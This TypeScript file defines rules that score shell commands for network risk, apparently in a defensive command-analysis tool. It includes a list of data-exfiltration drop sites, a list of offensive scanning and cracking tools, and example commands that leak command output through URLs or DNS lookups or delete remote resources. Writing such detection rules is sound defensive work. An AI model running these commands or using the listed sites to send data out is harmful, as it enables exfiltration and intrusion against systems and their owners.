import { PRINTERS } from '../nested.ts';
import { all, always, any, flag, flagValue, isPipedInto, not, operand, pathsOf, word } from './conditions.ts';
import type { Rule } from './rule.ts';

const WEB =
  'curl wget http https xh httpie aria2c axel lwp-request GET POST lynx w3m links elinks fetch curlie wget2 hurl grpcurl websocat wscat youtube-dl yt-dlp you-get ab wrk hey siege k6 vegeta httpx httping saldl ytmdl megatools';

export const NETWORK: readonly Rule[] = [
  {
    id: 'fetches-from-web',
    programs: WEB,
    when: any(operand(/./), (c) => c.fed, flag('-i', '--input-file', '--url', '-K')),
    dimension: 'network',
    points: 4,
    message: 'fetches something over the network',
    matches: ['curl https://example.com', 'wget -q http://example.com/a.tgz'],
    not_matches: ['curl --version', 'echo curl https://example.com'],
  },
  {
    id: 'sends-to-web',
    programs: WEB,
    when: any(
      flag(
        '-d --data --data-raw --data-binary --data-urlencode -F --form -T --upload-file',
        '--post-data --post-file --body-data --body-file --json',
      ),
      flagValue(['-X', '--request', '--method'], /^(POST|PUT|PATCH)$/i),
      all((c) => /^(http|https|xh|httpie)$/.test(c.program), operand(/^(POST|PUT|PATCH)$/)),
    ),
    dimension: 'network',
    points: 5,
    message: 'sends data over the network',
    matches: [
      'curl -d a=b http://example.com',
      'wget --post-data=x http://e.com',
      'curl -XPOST http://e.com',
      'curl -sF file=@a http://e.com',
    ],
    not_matches: ['curl http://example.com'],
  },
  {
    id: 'deletes-over-web',
    programs: WEB,
    when: any(
      flagValue(['-X', '--request', '--method'], /^(DELETE|PURGE)$/i),
      all((c) => /^(http|https|xh|httpie)$/.test(c.program), operand(/^DELETE$/)),
      operand(/[/?&=._-](do)?(delete|destroy|purge|drop|wipe|terminate|shutdown|remove)(all)?([/?&=]|$)/i),
    ),
    dimension: 'blast_radius',
    points: 6,
    message: 'asks a server to delete something',
    matches: [
      "curl -X DELETE 'http://localhost:9200/logs'",
      'curl -X POST http://jenkins.local/job/a/doDelete',
    ],
    not_matches: ['curl http://example.com/deleted.html'],
  },
  {
    id: 'saves-download',
    programs: WEB,
    when: any(
      flag('-o', '-O', '--output', '--remote-name', '-J', '--remote-name-all', '--output-document', '-P'),
      ({ program, flags }) =>
        /^(wget|wget2|aria2c|axel|youtube-dl|yt-dlp|fetch)$/.test(program) &&
        !flags.has('--spider') &&
        !flags.has('-O'),
    ),
    dimension: 'write',
    points: 3,
    message: 'stores what it fetched',
    matches: ['curl -O https://example.com/a', 'wget http://example.com/a'],
    not_matches: ['curl https://example.com'],
  },
  {
    id: 'sends-command-output',
    programs: `${WEB} dig host nslookup ping nc ncat socat telnet getent resolvectl`,
    when: ({ args, program, operands }) =>
      (program !== 'getent' || /^(ahosts|hosts)/.test(operands[0]?.text ?? '')) &&
      args.find(
        (a) =>
          a.substitution &&
          !/^\$\((date|uname|hostname|pwd)\b[^|;&]*\)$/.test(a.text) &&
          // A whole word may well be the name of this machine; with letters at its side it is a message.
          (program !== 'ping' || !/^\$\([^()]*\)$/.test(a.text)),
      ),
    dimension: 'network',
    points: 6,
    message: 'puts the output of another command into a request',
    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com', 'getent hosts $(id).e.com'],
    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)', 'getent passwd $(id -un)'],
  },
  {
    id: 'ignores-certificates',
    programs: WEB,
    when: flag('-k', '--insecure', '--no-check-certificate', '--verify=no'),
    dimension: 'network',
    points: 5,
    message: 'does not check who answers',
    matches: ['curl -k https://e.com', 'wget --no-check-certificate https://e.com'],
    not_matches: ['curl https://e.com'],
  },
  {
    id: 'drop-site',
    programs: '',
    when: (c) =>
      !PRINTERS.has(c.program) &&
      pathsOf(c).find((a) =>
        /^(https?:\/\/|wss?:\/\/)?([\w-]+\.)*(file\.io|transfer\.sh|pastebin\.com|webhook\.site|requestbin\.(com|net)|ngrok\.(io|app)|ngrok-free\.app|0x0\.st|termbin\.com|oast\.\w+|interact\.sh|burpcollaborator\.net|pipedream\.net|hooks\.slack\.com|api\.telegram\.org|discord(app)?\.com|ix\.io|bashupload\.com|temp\.sh|gofile\.io|anonfiles\.com|trycloudflare\.com)([/:?]|$)/i.test(
          a.text,
        ),
      ),
    dimension: 'network',
    points: 6,
    message: 'talks to a site that is often used to carry data off',
    matches: ['curl -F file=@a https://file.io/', 'nc termbin.com 9999'],
    not_matches: ['curl https://example.com', 'echo see https://file.io/'],
  },
  {
    id: 'looks-up-or-pings',
    programs:
      'ping ping6 dig host nslookup whois traceroute traceroute6 tracepath mtr drill dog doggo kdig delv fping arping hping3 tcptraceroute finger ntpdate chronyc ntpq speedtest speedtest-cli iperf iperf3 nmblookup avahi-browse ssh-keyscan dns-sd rpcinfo showmount snmpwalk snmpget ldapsearch smbstatus rdesktop xfreerdp vncviewer irssi weechat wait4x getent-hosts',
    when: any(operand(/./), flag('-s', '-c', '-H')),
    dimension: 'network',
    points: 3,
    message: 'asks other machines a question',
    matches: ['ping -c 1 e.com', 'dig +short e.com', 'whois e.com'],
    not_matches: ['dig', 'ping --version'],
  },
  {
    id: 'scans-network',
    programs:
      'nmap masscan zmap rustscan nikto sqlmap gobuster ffuf dirb hydra medusa ncrack wpscan nuclei amass subfinder enum4linux crackmapexec netexec arp-scan netdiscover responder msfconsole msfvenom bloodhound-python ldapdomaindump kerbrute john hashcat aircrack-ng airmon-ng unshadow patator burpsuite metasploit setoolkit bettercap ettercap dsniff',
    when: always,
    dimension: 'network',
    points: 6,
    message: 'looks for weak points of other machines',
    matches: ['nmap -sS 192.168.1.0/24', 'sqlmap -u http://e.com', 'nmap'],
    not_matches: ['ping e.com'],
  },
  {
    id: 'listens-to-network',
    programs:
      'tcpdump tshark wireshark dumpcap ngrep ettercap ssldump mitmproxy mitmdump tcpflow snoop driftnet',
    when: not(flag('--version', '-D', '-r', '--help')),
    dimension: 'credential',
    points: 6,
    message: 'listens to the traffic of this machine',
    matches: ['tcpdump -i eth0', 'tshark -c 5'],
    not_matches: ['tcpdump --version', 'tcpdump -r a.pcap'],
  },
  {
    id: 'sends-mail',
    programs:
      'mail mailx sendmail mutt swaks msmtp ssmtp telegram-send notify-send-remote wall write talk logger xmpp',
    when: any(operand(/./), isPipedInto, (c) => c.redirections.length > 0),
    dimension: 'network',
    points: 4,
    message: 'sends messages to people or to the system log',
    matches: ['echo hi | mail me@e.com', 'sendmail x < a'],
    not_matches: ['mail'],
  },
  {
    id: 'serves-network',
    programs:
      'python busybox php ruby npx http-server serve live-server caddy nginx httpd apache2 vsftpd smbd tftpd sshd ttyd gotty shellinabox jupyter',
    when: any(
      word(/^(http\.server|SimpleHTTPServer|http-server|serve|pyftpdlib|smbd|un)$/),
      all((c) => c.program === 'php', flag('-S')),
      all(
        (c) =>
          /^(http-server|serve|live-server|caddy|nginx|httpd|apache2|vsftpd|smbd|tftpd|sshd|ttyd|gotty|shellinabox|jupyter)$/.test(
            c.program,
          ),
        not(flag('-v', '-V', '-t', '--version', '--help')),
      ),
    ),
    dimension: 'network',
    points: 5,
    message: 'offers files or a service to the network',
    matches: ['python3 -m http.server', 'php -S 0.0.0.0:80', 'nginx'],
    not_matches: ['nginx -t', 'python3 -m json.tool'],
  },
];
